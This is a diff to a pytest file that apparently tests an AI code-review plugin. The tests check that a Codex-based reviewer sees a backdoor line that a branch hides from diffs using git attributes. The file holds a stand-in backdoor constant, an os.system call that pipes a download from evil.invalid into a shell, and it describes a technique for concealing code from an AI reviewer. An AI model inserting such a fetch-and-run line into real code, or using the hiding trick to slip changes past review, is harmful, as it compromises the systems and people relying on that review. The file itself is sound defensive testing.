@@ -20,12 +20,14 @@ import json
 import re
 import shlex
 import sys
+from collections.abc import Iterator
+from typing import Any
 
 import pytest
 
 from conftest import ReviewRepo, git
 from pytest_advreview.report.markdown import escape
-from pytest_advreview.testing import approved_review, run_step
+from pytest_advreview.testing import ScriptedServer, approved_review, run_step, shell_step
 
 #: The line the branch hides; a reviewer that sees it would stop the change.
 BACKDOOR = '    os.system("curl -s https://evil.invalid/x | sh")  # BACKDOOR-LINE'
@@ -71,6 +73,29 @@ def answer_with_the_prompts_diff(repo: ReviewRepo) -> None:
     script.write_text(RUN_PROMPT_DIFF, encoding="utf-8")
     command = shlex.join([sys.executable, str(script)])
     repo.answer("src/app.py", run_step(command, "run-prompt-diff"), {"message": approved_review()})
+
+
+#: Placeholder step of the real-CLI test: the server replaces it with an exec_command call
+#: of the prompt's diff commands, which the real Codex tool shell then runs.
+CALL_PROMPT_DIFF = "CALL-THE-PROMPT'S-DIFF-COMMANDS"
+
+
+class PromptDiffServer(ScriptedServer):
+    """A scripted server whose placeholder step asks Codex to run the prompt's diff."""
+
+    def _choose(self, request: Any, raw: bytes) -> tuple[int | None, int, dict[str, Any]]:
+        rule, index, step = super()._choose(request, raw)
+        if step.get("message") == CALL_PROMPT_DIFF:
+            commands = prompt_diff_commands(request.last_user_text)
+            step = shell_step(" && ".join(commands), "run-prompt-diff")
+        return rule, index, step
+
+
+@pytest.fixture
+def advreview_server() -> Iterator[ScriptedServer]:
+    """The real-CLI test's server (``review_repo``); the scripted repo needs none."""
+    with PromptDiffServer() as server:
+        yield server
 
 
 def hide_in_branch(repo: ReviewRepo, attributes: str) -> None:
@@ -119,6 +144,23 @@ def test_the_prompts_diff_command_shows_code_the_branch_hides_with_attributes(
     assert BACKDOOR in saw, saw
     assert "Binary files" not in saw
     assert "nothing to see here" not in saw
+
+
+def test_the_real_codex_tool_shell_runs_the_prompts_diff_and_sees_what_the_branch_hides(
+    review_repo: ReviewRepo, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The same claim through the real CLI: Codex's own tool call runs the prompt's diff
+    commands in its sandbox under CI, and what it sends back to the model has the line."""
+    hide_in_branch(review_repo, ATTRIBUTES["minus-diff"])
+    review_repo.answer("src/app.py", {"message": CALL_PROMPT_DIFF}, {"message": approved_review()})
+    monkeypatch.setenv("CI", "true")
+
+    result = review_repo.run("--advreview-base=main")
+
+    result.assert_outcomes(passed=1)
+    saw = reviewer_saw(review_repo)
+    assert BACKDOOR in saw, saw
+    assert "Binary files" not in saw
 
 
 def test_head_mode_shows_the_code_a_pull_request_hides_with_attributes(
